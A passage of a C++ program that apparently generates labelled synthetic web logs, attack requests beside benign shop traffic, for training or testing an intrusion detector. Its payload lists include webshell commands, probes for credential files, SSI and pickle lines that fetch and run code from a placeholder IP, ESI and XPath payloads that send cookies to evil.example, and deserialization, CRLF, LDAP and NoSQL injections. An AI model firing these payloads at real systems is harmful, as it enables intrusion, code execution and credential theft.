    "/wp-content/uploads/shell.phtml",
    "/.well-known/pki-validation/about.php",
    "/alfacgiapi/perl.alfa",
    "/wp-content/ALFA_DATA/alfacgiapi/perl.alfa",
    "/tomcatwar.jsp?pwd=j&cmd=id",
    "/cmd.jsp?cmd=whoami",
    "/shell.aspx?cmd=ipconfig",
    "/mini.php",
    "/indoxploit.php",
    "/marijuana.php",
    "/leafmailer.php",
    "/priv8.php",
    "/wso2.php?a=FilesMan",
    "/x.php?cmd=uname%20-a",
    "/wp-content/uploads/wpr-addons/forms/shell.php",
    "/uploads/avatar/2024/evil.php5",
    "/images/stories/0day.php",
    "/wp-content/themes/twentytwentyone/inc/c100.php",
    "/uploads/image.jpg.php",
    "/admin/uploads/1.php?command=cat%20/etc/passwd",
    "/wp-includes/sym.php",
    "/p0wny.php",
    "/webshell.php?cmd=ls",
};

Request webshell(Gen& g) {
  Request q;
  q.target = g.any(kShellPaths);
  q.method = g.chance(0.3) ? "POST" : "GET";
  q.agent = g.chance(0.3) ? "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" : agent_for_attack(g);
  q.status = g.chance(0.5) ? 404 : 200;
  return q;
}

const List kWordlist = {
    "/admin/",     "/backup/", "/login",        "/old/",           "/test/",
    "/dev/",       "/api/",    "/wp-login.php", "/administrator/", "/phpmyadmin/",
    "/robots.txt", "/console", "/manager/html", "/index.php",      "/"};

Request scanner(Gen& g) {
  Request q;
  q.target = g.any(kWordlist);
  q.agent = g.any(kToolAgents);
  if (q.agent == "WhatWeb/0.5.5") q.agent = kToolAgents[0];
  q.status = g.chance(0.7) ? 404 : 200;
  if (g.chance(0.1)) {
    // out-of-band interaction probes
    const List oob = {"https://c0ffee1234.oast.fun/", "http://abcd1234.burpcollaborator.net",
                      "http://x1y2z3.oastify.com/", "http://abc.dnslog.cn"};
    q.target = with_param(g, "/index.php", "url", enc_full(g.any(oob), false));
    q.agent = g.any(kBrowsers);
  }
  return q;
}

const List kSensitive = {
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.svn/wc.db",
    "/.htpasswd",
    "/backup.sql",
    "/db.sql",
    "/dump.sql.gz",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/config.php.old",
    "/index.php.bak",
    "/.DS_Store",
    "/phpinfo.php",
    "/info.php",
    "/server-status",
    "/.aws/credentials",
    "/.env.production",
    "/api/.env",
    "/laravel/.env",
    "/backup.zip",
    "/www.tar.gz",
    "/site.sql",
    "/.vscode/sftp.json",
    "/.git/index",
    "/shop.example.jp.zip",
    "/wp-config.php.save",
    "/.hg/store/00manifest.i",
    "/.bash_history",
    "/.ssh/id_rsa",
    "/config/database.yml",
    "/actuator/env",
    "/.npmrc",
    "/docker-compose.yml",
    "/wp-config.old",
    "/database.sql",
    "/.git/logs/HEAD",
    "/sftp-config.json",
    "/server-info",
    "/app/etc/local.xml",
    "/web.config.bak",
    "/.env.bak",
    "/debug/pprof/",
};

Request sensitive(Gen& g) {
  Request q;
  q.target = g.any(kSensitive);
  q.agent = g.chance(0.6) ? g.any(kBrowsers) : g.chance(0.5) ? "curl/7.88.1" : g.any(kToolAgents);
  q.status = g.chance(0.8) ? 404 : 200;
  return q;
}

Request xmlrpc(Gen& g) {
  Request q;
  const double r = g.uniform();
  q.agent = g.chance(0.5) ? g.any(kBrowsers) : "Mozilla/5.0 (compatible; MSIE 9.0)";
  if (r < 0.75) {
    q.method = "POST";
    q.target = g.chance(0.8) ? "/xmlrpc.php" : "/blog/xmlrpc.php";
  } else if (r < 0.85) {
    q.method = "POST";
    q.target = "/xmlrpc.php?method=system.multicall";
  } else {
    q.target = fmt::format("/?{}={}", g.pick(99999), g.pick(99999));
    q.agent =
        fmt::format("WordPress/6.{}.{}; https://blog{}.example.org; verifying pingback from {}",
                    g.pick(5), g.pick(4), g.pick(900), g.ip());
  }
  return q;
}

// ---- classes added later -------------------------------------------------------
// These classes draw from a generator of their own (see main), so adding them left
// every line of the sixteen earlier classes and of the benign traffic as it was.

const List kSsi = {
    "<!--#exec cmd=\"id\"-->",
    "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->",
    "<!--#exec cmd=\"ls -la /var/www\"-->",
    "<!--#exec cmd=\"dir c:\\\\\"-->",
    "<!--#exec cgi=\"/cgi-bin/printenv.pl\"-->",
    "<!--#include virtual=\"/etc/passwd\"-->",
    "<!--#include file=\"../../../../etc/shadow\"-->",
    "<!--#include virtual=\"/.htpasswd\" -->",
    "<!--#echo var=\"DOCUMENT_NAME\"-->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<!--#echo var=\"REMOTE_ADDR\"-->",
    "<!--#echo var=\"SERVER_SOFTWARE\"-->",
    "<!--#printenv -->",
    "<!--#printenv-->",
    "<!--#config errmsg=\"[ssi-probe]\"-->",
    "<!--#config timefmt=\"%A %B %d, %Y\"--><!--#echo var=\"LAST_MODIFIED\"-->",
    "<!--#fsize file=\"index.shtml\"-->",
    "<!--#flastmod virtual=\"/index.html\"-->",
    "<!--#set var=\"a\" value=\"id\"--><!--#exec cmd=\"$a\"-->",
    "\"><!--#exec cmd=\"wget http://203.0.113.66/s -O /tmp/s\"-->",
    "'><!--#exec cmd=\"nslookup ssi.c8s3t2.evil.example\"-->",
    "<!--#if expr=\"$REMOTE_ADDR = /127/\"-->local<!--#endif-->",
    "test<!--#exec cmd=\"uname -a\"-->test",
    "<esi:include src=\"http://203.0.113.66/esi.html\"/>",
    "<esi:include src=\"/server-status\" />",
    "x<esi:vars>$(HTTP_COOKIE)</esi:vars>y",
    "<esi:include src=\"http://evil.example/?c=$(HTTP_COOKIE{PHPSESSID})\"/>",
    "<esi:debug/>",
};

Request ssi(Gen& g) {
  std::string p = g.any(kSsi);
  if (g.chance(0.15)) p = g.random_case(p);
  const List names = {"name", "comment", "q",    "msg",  "title",  "email",
                      "page", "search",  "user", "text", "subject"};
  const List pages = {"/guestbook.shtml", "/search.shtml",  "/index.shtml",
                      "/contact.shtml",   "/feedback.stm",  "/index.php",
                      "/search",          "/products/view", "/"};
  Request q;
  q.agent = agent_for_attack(g);
  const double r = g.uniform();
  if (r < 0.08) {
    q.target = g.any(pages);  // a header the site writes into an .shtml page (logs, stats)
    q.agent = p;
  } else if (r < 0.14) {
    q.target = "/" + enc_full(p, g.chance(0.5)) + ".shtml";
    q.status = 404;
  } else {
    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
  }
  q.method = g.chance(0.3) ? "POST" : "GET";
  return q;
}

const List kLdap = {
    "*)(uid=*))(|(uid=*",
    "*)(|(objectClass=*)",
    "admin)(&)",
    "admin)(|(password=*)",
    "*)(cn=*",
    ")(cn=*))\x00"s,
    "admin*)((|userPassword=*)",
    "*))\x00"s,
    "admin))\x00"s,
    "*(|(mail=*))",
    "*(|(objectclass=*))",
    "admin)(!(&(1=0",
    "x*)(|(sn=*",
    "*)(&(objectClass=user)(memberOf=*",
    "jdoe)(|(givenName=*)",
    "*)(userPassword=*)",
    "admin)(description=*",
    "*))(|(cn=*",
    "(&(uid=admin)(userPassword=*))",
    "*)(mail=*@*",
    "*)(objectCategory=person)",
    "admin)(uid=admin))(|(uid=",
    "(|(uid=*)(cn=*))",
    "*)(sAMAccountName=adm*",
    "ad*)(|(telephoneNumber=*",
    "*)(homeDirectory=/root",
};

Request ldapi(Gen& g) {
  std::string p = g.any(kLdap);
  if (g.chance(0.15)) p = g.random_case(p);
  const List names = {"user",   "username", "uid",  "login",   "cn",     "name",
                      "search", "q",        "mail", "account", "member", "who"};
  const List pages = {"/login.php",   "/auth/login",   "/directory/search", "/people",
                      "/ldap/lookup", "/api/v1/users", "/admin/login",      "/index.php"};
  Request q;
  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
  if (g.chance(0.4)) q.target += "&pass=" + g.alnum(6 + static_cast<int>(g.pick(6)));
  q.method = g.chance(0.4) ? "POST" : "GET";
  q.status = g.chance(0.6) ? 200 : g.chance(0.5) ? 302 : 500;
  q.agent = agent_for_attack(g);
  return q;
}

const List kXpath = {
    "' or count(/child::node())=1 or '",
    "' or count(//*)>0 or '",
    "x' or name(/*[1])='users' or 'a'='b",
    "' and string-length(name(/*[1]))=5 and '1'='1",
    "' and substring(name(parent::*),1,1)='u' and '1'='1",
    "'] | //* | //*['",
    "'] | //user/password | a['",
    "admin' or /users/user[1]/password='x",
    "' or doc('http://203.0.113.66/x.xml') or '",
    "' and doc(concat('http://evil.example/',name(/*)))/x or '",
    "1 or string-length(//user[1]/password)>0",
    "' or contains(name(/*[1]),'u') or '",
    "' or starts-with(//user[position()=1]/name,'a') or '",
    "x' or true() or '",
    "/descendant-or-self::node()",
    "') or count(/*)=1 or ('",
    "' and count(/*[1]/*)=3 and ''='",
    "1 and substring(//user[1]/password,1,1)='a'",
    "' or local-name(/*)='root' or '",
    "' or name(..)='catalog' or '",
    "' or count(ancestor::*)=2 or '",
    "'|//*|'",
    "' or //user[name/text()='admin'] or '",
    "' and count(following-sibling::*)>0 or 'a'='b",
    "x']/../*[1]|//*['",
    "' or number(//user[1]/id)>0 or '",
};

Request xpathi(Gen& g) {
  std::string p = g.any(kXpath);
  if (g.chance(0.2)) p = replace_all(p, "'", "\"");
  const List names = {"user",     "username", "name",  "q",    "id",   "search",
                      "category", "book",     "title", "pass", "isbn", "lang"};
  const List pages = {"/login.php",       "/xml/search", "/books.php", "/catalog",
                      "/api/v1/products", "/users.php",  "/index.php", "/search"};
  Request q;
  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p));
  q.method = g.chance(0.3) ? "POST" : "GET";
  q.status = g.chance(0.7) ? 200 : 500;
  q.agent = agent_for_attack(g);
  return q;
}

const List kCrlf = {
    "\r\nSet-Cookie: crlf=injection",
    "\r\nSet-Cookie:PHPSESSID=1337deadbeef",
    "\nLocation: https://evil.example/",
    "\r\nLocation: //evil.example/phish",
    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: "
    "text/html\r\n\r\n<html>hacked</html>",
    "\r\nX-Injected: 1",
    "\r\nX-Test-Header: crlf",
    "\r\n\r\n<script>alert(document.domain)</script>",
    "\xe5\x98\x8a\xe5\x98\x8dSet-Cookie: whoami=crlf",
    "\xe5\x98\x8a\xe5\x98\x8dLocation: http://203.0.113.66/",
    "\\r\\nSet-Cookie: test=1",
    "\r\nRefresh: 0; url=http://evil.example/",
    "\r\nAccess-Control-Allow-Origin: *",
    "\rSet-Cookie: sess=fixed",
    "\nX-XSS-Protection: 0",
    "\r\nContent-Type: text/html\r\n\r\n<h1>defaced</h1>",
    "\r\nTransfer-Encoding: chunked",
    "\r\nX-Forwarded-For: 127.0.0.1",
    "\r\nContent-Disposition: attachment; filename=update.exe",
    "\r\nLink: <https://evil.example/x.css>; rel=stylesheet",
    "\\u000d\\u000aSet-Cookie: a=b",
    "\r\nCache-Control: public, max-age=31536000",
    "ja\r\nSet-Cookie: lang=ja; admin=1",
    "/\r\nLocation: javascript:alert(1)",
    "\n\nHTTP/1.0 302 Found\nLocation: http://203.0.113.66/",
};

Request crlf(Gen& g) {
  std::string p = g.any(kCrlf);
  const double v = g.uniform();
  if (v < 0.1)
    p = replace_all(p, "\r\n", "\\r\\n");
  else if (v < 0.18)
    p = replace_all(p, "\r\n", "\xe5\x98\x8d\xe5\x98\x8a");
  else if (v < 0.3)
    p = replace_all(p, "\r\n", "\n");
  if (g.chance(0.15)) p = g.random_case(p);
  const List names = {"url",      "next", "return", "redirect", "r",        "lang", "page",
                      "continue", "dest", "q",      "callback", "filename", "ref"};
  const List pages = {"/redirect.php", "/login",        "/lang",   "/go", "/out",
                      "/index.php",    "/download.php", "/logout", "/"};
  Request q;
  if (g.chance(0.15)) {
    q.target = (g.chance(0.5) ? "/" : "/lang/") + enc_full(p, g.chance(0.5));
    q.status = g.chance(0.5) ? 404 : 302;
  } else {
    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, p, false));
    q.status = g.chance(0.6) ? 302 : 200;
  }
  q.agent = agent_for_attack(g);
  return q;
}

// A MongoDB operator in a parameter name, as PHP, qs and Rails read `a[b]=c`.
std::string operator_param(Gen& g, const std::string& name, const std::string& op) {
  const double e = g.uniform();
  if (e < 0.4) return name + "[" + op + "]";
  if (e < 0.7) return name + "%5B%24" + op.substr(1) + "%5D";
  if (e < 0.85) return name + "%5b" + op + "%5d";
  return name + "%255B%2524" + op.substr(1) + "%255D";
}

const List kNosqlJson = {
    "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
    "{\"username\":\"admin\",\"password\":{\"$gt\":\"\"}}",
    "{\"$where\":\"sleep(5000)\"}",
    "{\"email\":{\"$regex\":\"^adm\"}}",
    "{\"$or\":[{},{\"a\":\"a\"}]}",
    "{\"user\":{\"$in\":[\"admin\",\"root\"]}}",
    "{\"price\":{\"$lt\":0}}",
    "{$ne: null}",
    "{\"token\":{\"$exists\":true}}",
    "{\"password\": {\"$regex\": \"^a.*\"}}",
    "{\"role\":{\"$nin\":[\"user\"]}}",
    "{'user': {'$ne': ''}}",
    "{\"$expr\":{\"$eq\":[1,1]}}",
};

const List kNosqlJs = {
    "admin' || '1'=='1",
    "'; return true; var x='",
    "' && this.password.match(/^a.*$/)//",
    "1; sleep(5000)",
    "this.password.length > 0",
    "';while(true){}'",
    "'; db.users.find(); var a='",
    "'||this.role=='admin",
    "1'; return this.isAdmin == true; var a='1",
    "\"||\"1\"==\"1",
    "' || this.username.startsWith('adm') || '",
    "0;return db.getCollectionNames()",
};

Request nosqli(Gen& g) {
  const List pages = {"/login",         "/api/login", "/api/v1/users", "/api/v1/products",
                      "/account/reset", "/api/auth",  "/search",       "/api/v1/orders"};
  Request q;
  q.agent = agent_for_attack(g);
  q.method = g.chance(0.4) ? "POST" : "GET";
  const double r = g.uniform();
  if (r < 0.5) {
    const std::vector<std::pair<std::string, List>> ops = {
        {"$ne", {"", "x", "1", "null", "admin", "nobody"}},
        {"$gt", {"", "a", "0"}},
        {"$gte", {"", "0"}},
        {"$lt", {"~", "zzzz"}},
        {"$regex", {".*", "^a", "^adm.*", "a.*", "^.{8}$"}},
        {"$exists", {"true", "1"}},
        {"$nin", {"admin", "x"}},
        {"$in", {"admin"}},
        {"$where", {"1", "sleep(5000)", "this.password.length>0", "return true"}},
    };
    const List names = {"username", "user",  "login", "email", "password",    "pass",
                        "pwd",      "token", "id",    "code",  "reset_token", "sku"};
    const auto& [op, values] = ops[g.pick(ops.size())];
    std::string name = operator_param(g, g.any(names), op);
    if (op == "$nin" || op == "$in") name += g.chance(0.5) ? "[]" : "%5B%5D";
    q.target = with_param(g, g.any(pages), name, encode_value(g, g.any(values), false));
    if (g.chance(0.5)) {
      const auto& [op2, values2] = ops[g.pick(2)];
      q.target += "&" + operator_param(g, g.chance(0.5) ? "password" : "pass", op2) + "=" +
                  enc_minimal(g.any(values2), false);
    }
  } else if (r < 0.75) {
    const List names = {"q", "filter", "where", "query", "json", "data", "body", "criteria"};
    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kNosqlJson)));
  } else {
    const List names = {"user", "username", "q", "search", "id", "name", "cat", "password"};
    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kNosqlJs)));
  }
  q.status = g.chance(0.7) ? 200 : 302;
  return q;
}

const List kSerialized = {
    // PHP
    "O:8:\"stdClass\":0:{}",
    "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
    "a:2:{i:0;O:8:\"stdClass\":0:{}i:1;s:1:\"x\";}",
    "O:+8:\"SplStack\":0:{}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00"
    "events\";"
    "O:25:\"Illuminate\\Bus\\Dispatcher\":1:{}}"s,
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";N;}"s,
    "O:9:\"Exception\":1:{s:7:\"message\";s:2:\"id\";}",
    "a:1:{s:4:\"user\";O:4:\"Page\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}}",
    // Java
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAA"
    "AAAAx3CAAAABAAAAAB",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgAC"
    "TAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7",
    "aced00057372002a6f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e732e6d61702e4c617a"
    "794d61706ee594829e7910940300014c0007666163746f7279",
    "ACED0005737200116A6176612E7574696C2E486173684D6170",
    "\xac\xed\x00\x05sr\x00\x11java.util.HashMap"s,
    // .NET
    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJs"
    "aWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\","
    "\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, "
    "System\"}}",
    // Python
    "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
    "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
    "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
    "cos\nsystem\n(S'curl http://203.0.113.66/p|sh'\ntR.",
    "!!python/object/apply:os.system [\"id\"]",
    "!!python/object/new:subprocess.check_output [[\"id\"]]",
    // Ruby
    "--- !ruby/object:Gem::Installer\ni: x\n",
};

const List kPollution = {
    "__proto__[isAdmin]=true",
    "a[__proto__][polluted]=1",
    "constructor[prototype][role]=admin",
    "__proto__.isAdmin=1",
    "x[constructor][prototype][y]=1",
    "__proto__[innerHTML]=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "__proto__%5BtoString%5D=1",
    "%5F%5Fproto%5F%5F[admin]=1",
    "user[__proto__][admin]=true",
    "constructor.prototype.isAdmin=true",
};

Request deser(Gen& g) {
  const List pages = {"/index.php",  "/api/v1/session",   "/cart.php", "/profile", "/app/state",
                      "/api/import", "/invoker/readonly", "/load",     "/account"};
  Request q;
  q.agent = agent_for_attack(g);
  q.method = g.chance(0.35) ? "POST" : "GET";
  q.status = g.chance(0.5) ? 500 : 200;
  const double r = g.uniform();
  if (r < 0.18) {
    std::string p = g.any(kPollution);
    if (g.chance(0.3)) p = replace_all(replace_all(p, "[", "%5B"), "]", "%5D");
    const List extra = {"page=2", "lang=ja", "id=" + std::to_string(1 + g.pick(900))};
    q.target = g.any(pages) + "?" + (g.chance(0.5) ? p : g.any(extra) + "&" + p);
  } else if (r < 0.25) {
    const List json = {"{\"__proto__\":{\"isAdmin\":true}}",
                       "{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}",
                       "{\"a\":1,\"__proto__\":{\"outputFunctionName\":\"x;process.exit()\"}}"};
    q.target = with_param(g, "/api/merge", g.chance(0.5) ? "json" : "settings",
                          encode_value(g, g.any(json), false));
  } else {
    const List names = {"data",  "state", "session", "obj",         "token", "payload",  "cart",
                        "prefs", "user",  "object",  "remember_me", "ctx",   "viewstate"};
    q.target =
        with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kSerialized), false));
  }
  return q;
}

struct AttackClass {
  const char* name;
  std::function<Request(Gen&)> make;
  int count;
};

// ---- benign traffic ----------------------------------------------------------

const List kSearchTerms = {
    "red dress",
    "select size",
    "union jack t-shirt",
    "script font mug",
    "drop earrings",
    "order by price",
    "O'Brien",
    "O'Neill jacket",
    "rock 'n' roll tee",
    "日本茶",
    "抹茶 ラテ",
    "セール 50%",
    "R&D notebook",
    "salt & pepper mill",
    "AT&T charger",
    "100% cotton",
    "price < 1000",
    "<3 necklace",
    "cat toys",
    "sleep mask",
    "alert bell",
    "exec chair",
    "shell necklace",
    "cmd key keyboard",
    "tools, etc/misc",
    "wait...",
    "version 2.0",
    "user manual",
    "sql for beginners",
    "javascript book",
    "java script guide",
    "config cable",
    "Levi's 501",
    "kids' shoes",
    "1=1 pattern scarf",
    "union station poster",
    "drop table lamp",
    "php book",
    "delete",
    "insert coin bank",
    "update firmware",
    "ping pong table",
    "\"quoted phrase\"",
    "a/b test",
    "c:\\ drive sticker",
    "shell & cup",
    "echo dot",
    "curl cream",
    "wget",
    "bash mat",
    "1 or 2 seats",
    "9-5 bag",
    "スクリプト",
    "ユニオン",
    "tea; green",
    "copy | paste",
    "$5 gift",
    "{brackets}",
    "#1 seller",
    "email@example.jp",
};

std::string google_referer(Gen& g) {
  return "https://www.google.com/search?q=" + enc_minimal(g.any(kSearchTerms), true);
}

Request benign(Gen& g) {
  Request q;
  q.agent = g.chance(0.8) ? g.any(kBrowsers) : g.any(kBenignBots);
  q.referer = g.chance(0.5) ? "https://shop.example.jp/" : "-";
  q.bytes = 1000 + static_cast<int64_t>(g.pick(60000));
  const double r = g.uniform();
  const std::string cat = g.any(kCategories);
  const std::string tracking =
      g.chance(0.5)
          ? "&utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024"
          : "&gclid=" +
                g.token(60, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-");
  if (r < 0.30) {
    const List assets = {"/static/css/site.min.css",
                         "/static/js/app.min.js?v=3.2.1",
                         "/static/js/vendor.min.js",
                         "/static/img/logo.svg",
                         "/favicon.ico",
                         "/static/fonts/noto-sans-jp.woff2",
                         "/static/img/banner-spring.webp",
                         "/wp-content/themes/shop/style.css?ver=6.4.3",
                         "/wp-content/uploads/2024/03/shell-necklace.jpg",
                         "/wp-content/uploads/2023/12/backup-battery-600x600.png",
                         "/img/products/cmd-keyboard.jpg",
                         "/static/js/jquery.min.js?ver=3.7.1"};
    q.target = g.any(assets);
    if (g.chance(0.2)) q.status = 304;
  } else if (r < 0.50) {
    q.target = fmt::format("/products/{}/{}", cat, 10000 + g.pick(40000));
    if (g.chance(0.1)) q.target += "?" + tracking.substr(1);
    if (g.chance(0.05)) q.target += "&fbclid=IwAR" + g.alnum(50);
    q.referer = g.chance(0.3) ? google_referer(g) : q.referer;
  } else if (r < 0.58) {
    q.target = fmt::format("/item.php?id={}", 1 + g.pick(9000));
    if (g.chance(0.2)) q.target += "&color=red&size=M";
  } else if (r < 0.66) {
    const std::string term = g.any(kSearchTerms);
    const double e = g.uniform();
    const std::string v = e < 0.5 ? enc_minimal(term, true) : enc_full(term, e < 0.75);
    q.target = (g.chance(0.5) ? "/search?q=" : "/search.php?keyword=") + v +
               (g.chance(0.3) ? tracking : "") + (g.chance(0.2) ? "&order=price_asc" : "");
    q.referer = g.chance(0.5) ? google_referer(g) : "https://shop.example.jp/";
  } else if (r < 0.71) {
    q.target = fmt::format("/category.php?cat={}&page={}&sort={}", cat, 1 + g.pick(12),
                           g.chance(0.5) ? "price" : "-price");
  } else if (r < 0.75) {
    q.method = "POST";
    q.target = g.chance(0.5) ? "/cart/add" : "/checkout/confirm";
    q.status = 302;
  } else if (r < 0.79) {
    const List api = {
        "/api/v1/products?ids=101,102,103&fields=id,name,price",
        "/api/v1/stock?sku=SKU-1234-RD",
        "/api/v1/search?filter=" + enc_full("{\"color\":\"red\",\"size\":[\"M\",\"L\"]}", false),
        "/api/v1/search?filter={%22brand%22:%22O'Neill%22}",
        "/api/v1/cart?cmd=add&item=4411&qty=2",
        "/api/v1/order?command=checkout&step=2",
        "/api/v1/items?exec=1&page=3",
        "/wp-json/wp/v2/posts?per_page=10&_embed=1",
        "/api/v1/reviews?sort=-created_at&limit=20",
        "/api/v1/user?token=" +
            enc_full(g.token(40, "ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/") + "==", false),
        "/api/v1/session?jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + g.alnum(40) + "." +
            g.alnum(43),
        "/api/v1/price?min=1000&max=5000&currency=JPY",
    };
    q.target = g.any(api);
    q.method = g.chance(0.2) ? "POST" : "GET";
    q.agent = g.chance(0.5) ? "ShopApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)" : q.agent;
  } else if (r < 0.84) {
    const List misc = {
        "/account/login?next=%2Faccount%2Forders",
        "/account/login?redirect=https%3A%2F%2Fshop.example.jp%2Fcart",
        "/account/login?return_url=https://shop.example.jp/checkout/complete",
        "/share?url=https%3A%2F%2Fshop.example.jp%2Fproducts%2Fbags%2F12345&title=Leather%20bag",
        "/image/resize?src=https://cdn.shop.example.jp/p/123.jpg&w=300",
        "/download.php?file=catalog-2024.pdf",
        "/download/report..final.pdf",
        "/manuals/backup-guide.pdf",
        "/products/old-fashioned-glass",
        "/blog/bak-kut-teh-recipe",
        "/blog/union-square-pop-up-store",
        "/blog/how-to-select-the-right-size",
        "/newsletter/subscribe?email=taro.yamada%40example.jp",
        "/contact?subject=" + enc_full("Order #1234 & delivery", false),
        "/page.php?template=gift&lang=ja",
        "/view.php?doc=terms-of-service",
        "/index.php?page=about",
        "/help?topic=returns&path=/account/orders",
        "/callback?code=4%2F0AX4XfWh" + g.alnum(30) + "&state=" + g.alnum(16),
        "/search?q=%E3%83%AF%E3%83%B3%E3%83%94%E3%83%BC%E3%82%B9&page=2",
        "/robots.txt",
        "/sitemap.xml",
        "/.well-known/apple-app-site-association",
        "/.well-known/security.txt",
        "/feed/",
        "/ads.txt",
        "/track?ev=view&data=" +
            enc_full("{\"id\":123,\"price\":1980,\"q\":\"select size\"}", false),
        "/jsonp?callback=jQuery36_1710000000&_=1710000000123",
        "/cart?coupon=SPRING%26SUMMER",
        "/products/tees?size=L&color=%23ff0000",
    };
    q.target = g.any(misc);
  } else if (r < 0.90) {
    q.target = "/";
    q.referer = g.chance(0.5) ? google_referer(g) : "https://t.co/" + g.alnum(10);
  } else if (r < 0.95) {
    q.target = fmt::format("/products/{}/{}", cat, 90000 + g.pick(9999));
    q.status = 404;
  } else if (r < 0.98) {
    q.method = g.chance(0.5) ? "POST" : "GET";
    q.target = "/account/login";
    q.status = q.method == "POST" ? 302 : 200;
  } else {
    q.target = fmt::format("/news/2024/0{}/spring-sale-{}", 1 + g.pick(9), g.pick(40));
    q.referer = "https://www.facebook.com/";
  }
  return q;
}

// Benign requests that look like the classes added later: searches with their
// keywords, parentheses, asterisks and dollar signs, multi-line form text, JSON
// with prices, base64 tokens and images, HTML comments in a preview. Drawn from
// the later classes' generator and added to the 24,000 ordinary benign requests.
const List kLookalikeTerms = {
    "exec chair",
    "include batteries",
    "echo dot 5th gen",
    "config cable (2m)",
    "set of 3 (include box)",
    "(2+3)*4 calculator",
    "size (M)",
    "shoe*",
    "rating 5* (best)",
    "かわいい(*^_^*)",
    "(S)(M)(L) set",
    "contains (2 pieces)",
    "name tag (set of 10)",
    "count (3) pack",
    "doc martens (black)",
    "parent & child set",
    "child's shoes",
    "self-care kit",
    "x-large shirt",
    "content type: cotton",
    "$5 gift",
    "where to buy $10 gifts",
    "return policy",
    "this is it",
    "O:gauge train",
    "16:9 frame",
    "prototype board",
    "constructor set",
    "set-cookie jar",
    "location: tokyo",
    "user (admin) manual",
    "wildcard * search",
    "a|b test",
    "1/2 price (today only)",
    "(new) arrivals",
    "true story (book)",
    "Tシャツ（白）(M)",
    "100% cotton (organic)",
    "price: $19.99",
    "filter (water)",
};

Request benign_lookalike(Gen& g) {
  Request q;
  q.agent = g.chance(0.8) ? g.any(kBrowsers) : g.any(kBenignBots);
  q.referer = g.chance(0.5) ? "https://shop.example.jp/" : "-";
  q.bytes = 1000 + static_cast<int64_t>(g.pick(60000));
  const double r = g.uniform();
  if (r < 0.40) {
    const std::string term = g.any(kLookalikeTerms);
    const double e = g.uniform();
    const std::string v = e < 0.5 ? enc_minimal(term, true) : enc_full(term, e < 0.75);
    q.target = (g.chance(0.5) ? "/search?q=" : "/search.php?keyword=") + v +
               (g.chance(0.2) ? "&order=price_asc" : "");
  } else if (r < 0.55) {
    // Multi-line contact forms: browsers send textarea line breaks as CR LF.
    const List lines = {"Hello",
                        "Name: Taro Yamada",
                        "Location: Osaka",
                        "Sizes needed:",
                        "X-Large: 2",
                        "Large: 1",
                        "Order #1234",
                        "Content: gift wrapping please",
                        "Date: 2026-12-01",
                        "Id like to order two",
                        "Set of 3, please",
                        "Cookie box: 2",
                        "Thanks",
                        "<3 love it",
                        "(Please call after 6pm)"};
    std::string msg;
    const int n = 2 + static_cast<int>(g.pick(4));
    for (int i = 0; i < n; ++i) {
      if (i) msg += g.chance(0.8) ? "\r\n" : g.chance(0.5) ? "\n" : "\r\n\r\n";
      msg += g.any(lines);
    }
    q.method = g.chance(0.7) ? "POST" : "GET";
    q.target = (g.chance(0.5) ? "/contact?msg=" : "/review?text=") + enc_minimal(msg, true);
    if (g.chance(0.3)) q.target += "&email=" + enc_full("hanako@example.jp", false);
    q.status = q.method == "POST" ? 302 : 200;
  } else if (r < 0.70) {
    const List api = {
        "/track?ev=purchase&data=" +
            enc_full("{\"price\":\"$19.99\",\"currency\":\"USD\",\"qty\":2}", false),
        "/api/v1/orders?q=" + enc_full("{\"total\":{\"amount\":1980,\"currency\":\"JPY\"}}", false),
        "/odata/Products?$filter=Price%20gt%201000&$top=10&$orderby=Name",
